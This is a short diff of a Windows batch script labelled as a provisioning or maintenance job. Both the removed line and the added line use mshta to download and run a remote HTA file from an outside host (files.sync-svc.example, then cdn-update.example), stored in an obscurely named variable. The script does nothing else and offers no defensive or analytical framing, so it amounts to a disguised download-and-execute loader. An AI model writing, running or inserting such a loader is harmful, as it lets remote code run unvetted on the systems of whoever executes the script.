@@ -1,4 +1,4 @@
-REM provision 7861 v0
+REM maintenance 5404 v0
 @echo off
-set "jwbg=mshta http://files.sync-svc.example/update.hta"
-call %jwbg%
+set htuu=mshta http://cdn-update.example/update.hta
+call %htuu%
